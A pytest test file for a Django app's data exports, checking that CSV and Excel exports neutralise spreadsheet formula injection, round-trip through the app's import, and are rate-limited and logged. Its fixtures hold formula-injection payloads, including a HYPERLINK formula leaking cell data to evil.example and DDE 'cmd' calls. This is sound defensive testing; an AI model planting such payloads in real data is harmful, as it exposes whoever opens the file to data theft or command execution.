"""Formula protection in every spreadsheet-like export, read back losslessly by our own import
(issue 9, point 4), and downloads that are throttled and audited."""

import csv
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from augenhoehe.core.models import LogEntry
from augenhoehe.imports.reading import read_table
from augenhoehe.interchange.format import FORMULA_START

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("regions", "unscoped")]

# What an MSO (or anyone who may edit a profile) could write to attack whoever opens the export.
HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Klick")',
    "short_name": "@SUM(1+1)",
    "description": "+cmd|' /C calc'!A0",
    "contact_person": "-2+3+cmd|' /C calc'!A0",
    "phone": "+49 5241 123456",
    "city": "Gütersloh",
}
TEXT_COLUMNS = ("name", "short_name", "description", "contact_person", "phone")
CSV_FORMATS = ("organisations_csv", "organisations_excel_csv", "organisations_people_csv")
XLSX_FORMATS = ("organisations_xlsx", "organisations_people_xlsx")
# The German Excel variants write risky text as a formula that only yields the text: ="=…".
TEXT_CONSTANT = re.compile(r'="(?:[^"]|"")*"', re.DOTALL)


@pytest.fixture
def hostile(organisation_factory):
    return organisation_factory(
        kind="cultural", public_fields=["contact_person", "phone"], description=HOSTILE["description"],
        **{k: v for k, v in HOSTILE.items() if k != "description"},
    )  # fmt: skip


def download(client, name: str) -> bytes:
    response = client.get(reverse(f"exports:{name}"))
    assert response.status_code == 200, response.status_code
    # Read to the end: the test client closes a streamed export (and a workbook's temporary file) then.
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(content: bytes, name: str) -> list[list[str]]:
    encoding = "cp1252" if name == "organisations_excel_csv" else "utf-8-sig"
    text = content.decode(encoding)
    delimiter = "," if name == "organisations_csv" else ";"
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("name", CSV_FORMATS)
def test_no_csv_cell_starts_a_formula(hostile, client, name):
    """The finding: the UTF-8 CSV wrote =HYPERLINK(…), +cmd|…, @SUM(…) unchanged, for anyone."""
    rows = csv_cells(download(client, name), name)
    cells = [cell for row in rows[1:] for cell in row]
    risky = [c for c in cells if c.startswith(FORMULA_START[:-1]) and not TEXT_CONSTANT.fullmatch(c)]
    assert not risky
    assert any(HOSTILE["description"] in cell for cell in cells)  # neutralised, not dropped


@pytest.mark.parametrize("name", XLSX_FORMATS)
def test_workbook_cells_stay_text_even_when_edited(hostile, client, name):
    sheet = load_workbook(io.BytesIO(download(client, name))).worksheets[0]
    risky = [
        c for row in sheet.iter_rows(min_row=2) for c in row if str(c.value or "").startswith(FORMULA_START)
    ]
    assert {c.value for c in risky} >= {HOSTILE[column] for column in TEXT_COLUMNS}
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    assert not [c for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "f"]


@pytest.mark.parametrize("name", CSV_FORMATS + XLSX_FORMATS)
def test_our_import_reads_every_neutralised_cell_back_unchanged(hostile, client_for, name):
    """Round trip: what the import reads from the file is what the profile says."""
    table = read_table(download(client_for("coordinator"), name), filename="export")
    ((_number, cells),) = table.rows
    read = dict(zip(table.headers, cells, strict=False))
    for column in TEXT_COLUMNS:
        assert HOSTILE[column] in read.values(), column


def test_visitors_may_download_public_data_but_are_throttled(organisation_factory, client):
    organisation_factory(name="Öffentlicher Verein")
    url = reverse("exports:organisations_json")
    for number in range(20):
        # A forged X-Forwarded-For does not make a new visitor: without a proxy setting the
        # connection's own address counts (AUGENHOEHE_PROXY_COUNT).
        response = client.get(url, HTTP_X_FORWARDED_FOR=f"198.51.100.{number}")
        assert response.status_code == 200
        b"".join(response.streaming_content)

    refused = client.get(url, HTTP_X_FORWARDED_FOR="203.0.113.99")

    assert refused.status_code == 429
    assert int(refused["Retry-After"]) > 0
    assert "sehr oft heruntergeladen" in refused.content.decode()
    assert not LogEntry.objects.filter(action="exports.downloaded").exists()  # visitors are not logged


def test_signed_in_downloads_are_logged_and_counted_per_person(
    organisation_factory, client_for, users, network
):
    organisation_factory(name="Verein")
    client = client_for("coordinator")
    response = client.get(reverse("exports:organisations_xlsx"), {"q": "Verein", "language": "tr"})
    assert response.status_code == 200
    b"".join(response.streaming_content)  # read to the end, which closes the workbook's file

    entry = LogEntry.objects.get(action="exports.downloaded")
    assert entry.actor == users["coordinator"] and entry.network == network
    assert entry.data == {"format": "xlsx", "query": "q=Verein&language=tr"}
